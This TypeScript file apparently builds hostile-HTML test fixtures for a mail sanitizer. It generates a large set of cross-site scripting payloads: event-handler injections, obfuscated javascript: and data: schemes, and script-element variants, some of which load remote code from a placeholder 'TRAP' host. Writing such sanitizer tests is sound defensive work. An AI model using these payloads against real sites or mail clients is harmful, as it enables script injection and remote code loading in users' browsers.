import type { HostileHtml } from './hostile-mail.ts';

/** Events that an element may name a script for. */
const events =
  `abort activate afterprint animationcancel animationend animationiteration animationstart auxclick
  beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin
  blur bounce cancel canplay canplaythrough change click close contentvisibilityautostatechange
  contextmenu copy cuechange cut dblclick drag dragend dragenter dragover dragstart drop durationchange
  end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange
  input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture
  message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide
  pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove
  pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize
  scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart
  show slotchange start storage submit suspend timeupdate toggle touchcancel touchend touchmove
  touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload
  volumechange waiting webkitanimationend webkittransitionend wheel`.split(/\s+/u);

/** Events of one mail. */
const together = 3;

function handlers(event: string): string {
  const on = `on${event}="alert('${event}')"`;
  return [
    `<img src=x ${on}><p ${on} tabindex=0 autofocus style="animation:x 1s;transition:color 1s">x</p>`,
    `<video ${on} autoplay><source ${on} src=x></video><details open ${on}><summary>x</summary></details>`,
    `<svg ${on}><animate ${on} attributeName=x dur=1s></svg><input ${on} autofocus><body ${on}>`,
    `<marquee ${on}>x</marquee><audio src=x ${on}></audio><form ${on}><button>x</button></form>`,
  ].join('');
}

/** Ways to write the scheme of a script. */
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  '\n\rjavascript:',
  '\u0001javascript:',
  '\u00A0javascript:',
  '\u2028javascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  'java\0script:',
  'javascript\t:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'javascript&colon;',
  'javascript&#58;',
  'jav&Tab;ascript:',
  'jav&NewLine;ascript:',
  'jav&#x0D;ascript:',
  'javascript:%0A',
  'javascript://TRAP/%0A',
  'vbscript:',
  'livescript:',
  'mocha:',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=#',
  'data:,',
  'blob:null/',
  'file:///etc/passwd#',
  'filesystem:http://TRAP/',
  'intent://TRAP/#',
  'ms-appx:',
  'about:blank#',
  'x-javascript:',
];

function schemed(scheme: string): string {
  const address = `${scheme}alert('${encodeURIComponent(scheme)}')`.replaceAll('"', '&quot;');
  return [
    `<a href="${address}">x</a><img src="${address}"><iframe src="${address}"></iframe>`,
    `<object data="${address}"></object><embed src="${address}"><form action="${address}"><input type=submit></form>`,
    `<link rel=stylesheet href="${address}"><body background="${address}"><table background="${address}"><td background="${address}">`,
    `<div style="background:url('${address}')"><svg><a xlink:href="${address}"><text>x</text></a><use href="${address}"/></svg>`,
    `<math href="${address}">x</math><area href="${address}"><video poster="${address}"></video><button formaction="${address}">x</button>`,
  ].join('');
}

/** Scripts as elements, in all spellings. */
const elements = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script src=//TRAP/x.js></script>',
  '<script src="https://TRAP/x.js" async></script>',
  '<script type=module>import "//TRAP/x.js"; alert(1)</script>',
  '<script type=importmap>{"imports":{"x":"//TRAP/x.js"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://TRAP/"]}]}</script>',
  '<script>alert(1)',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><script xlink:href="//TRAP/x.js"/></svg>',
  '<math><script>alert(1)</script></math>',
  '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>',
  '<template><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template></div>',
  '<div><template shadowroot=open><img src=x onerror=alert(1)></template></div>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<iframe src="javascript:alert(1)" onload=alert(2)>',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value=javascript:alert(1)></object>',
  '<embed type="image/svg+xml" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+">',
  '<applet code=x.class archive="http://TRAP/x.jar"></applet>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<img src=x on\u0000error=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<svg><set attributeName=onmouseover to=alert(1) begin=0s></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)" begin=0s /><a id=x><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href to=javascript:alert(1) begin=0s fill=freeze /><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<xml id=x><a><b>&lt;img src=x onerror=alert(1)&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html></span>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<?import namespace="t" implementation="#default#time2">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
  '<b is=x-y onclick=alert(1)>x</b><x-y onfocus=alert(1) tabindex=0 autofocus></x-y>',
  '<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<input type=image src=x onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<meter onmouseover=alert(1)>0</meter><progress onmouseover=alert(1)></progress>',
  '<portal src="javascript:alert(1)" onload=alert(1)></portal>',
  '<fencedframe src="http://TRAP/"></fencedframe>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<a href="#" ping="http://TRAP/" onclick=alert(1)>x</a>',
];

export const scripts: readonly HostileHtml[] = [
  ...Array.from({ length: Math.ceil(events.length / together) }, (_, at) => {
    const some = events.slice(at * together, (at + 1) * together);
    return { what: `scripts of the events ${some.join(', ')}`, html: some.map(handlers).join('') };
  }),
  ...schemes.map((scheme) => ({
    what: `address with ${JSON.stringify(scheme)}`,
    html: schemed(scheme),
  })),
  ...elements.map((html) => ({ what: `script as ${html.slice(0, 60)}`, html })),
];
